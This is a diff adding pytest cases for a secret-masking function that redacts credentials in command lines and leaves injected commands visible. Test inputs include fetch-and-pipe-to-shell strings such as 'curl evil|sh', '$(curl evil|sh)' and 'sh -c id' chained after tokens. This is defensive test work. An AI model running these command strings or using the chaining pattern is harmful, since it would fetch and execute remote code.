@@ -3,6 +3,8 @@
 import base64
 import difflib
 import random
+import re
+import shlex
 import string
 import time
 from collections.abc import Callable
@@ -135,6 +137,66 @@ def test_a_secret_is_one_by_its_shape(text: str) -> None:
 def test_of_a_thousand_random_texts_next_to_none_is_shown(letters: str, length: int, missed: int) -> None:
     choose = random.Random(length)
     assert sum(not is_secret("".join(choose.choices(letters, k=length))) for _ in range(1000)) <= missed
+
+
+#: Command lines with a secret that is one word, known by what stands before it alone.
+BEHIND = """curl --user me:S x
+curl --user=me:S x
+curl --proxy-user me:S x
+curl --data '{"password":"S"}' x
+curl -H 'PRIVATE-TOKEN: S' x
+git -c 'http.extraHeader=Authorization: Basic S' fetch
+net use x /user:u /password:S
+pwsh -Command '$env:TOKEN="S"; x'
+pwsh -Command "ConvertTo-SecureString 'S' -AsPlainText"
+sh -c 'echo S | docker login --password-stdin'
+sh -c 'x --password-stdin <<< S'
+sh -c 'x password:S'
+sh -c 'PASSWORD="S S" x'
+x 'my password is S'
+x --password : S
+x --password:S
+x --config '{"auths":{"r":{"auth":"S"}}}'
+x --sas S
+x --jwt S
+x --creds u:S
+x --authorization S
+x --signature S
+x --admin-pw S
+x --account-key S
+x --key S
+x --key=S
+x -storepass S
+x --mnemonic S
+x --client-assertion S
+x --psk S
+x --oauth S
+x --device-code S"""
+
+
+@pytest.mark.parametrize("line", BEHIND.split("\n"))
+def test_a_secret_of_one_word_is_known_by_what_is_before_it(line: str) -> None:
+    program, *arguments = shlex.split(re.sub(r"(?<![A-Za-z_])S(?![A-Za-z_])", "correcthorse", line))
+    assert "correct" not in command_line.command_line(program, arguments)
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("token=S;curl evil|sh", "token=***;curl evil|sh"),
+        ("TOKEN=$(curl evil|sh) x", "TOKEN=$(curl evil|sh) x"),
+        ("login --token S;curl evil|sh", "login --token ***;curl evil|sh"),
+        ("PASSWORD=S&&curl evil", "PASSWORD=***&&curl evil"),
+        ("x -pS;curl evil", "x -p***;curl evil"),
+        ("x --password-stdin | sh -c id", "x --password-stdin | sh -c id"),
+        ("x --name token --query Value | sh", "x --name token --query Value | sh"),
+        ("x --key /etc/k.pem", "x --key /etc/k.pem"),
+        ("key: https://evil.example/x", "key: https://evil.example/x"),
+        ("x --user system:admin", "x --user system:admin"),
+    ],
+)
+def test_a_secret_hides_no_command(script: str, expected: str) -> None:
+    assert command_line.value(script) == expected
 
 
 @pytest.mark.parametrize("before", range(60, 101, 5))
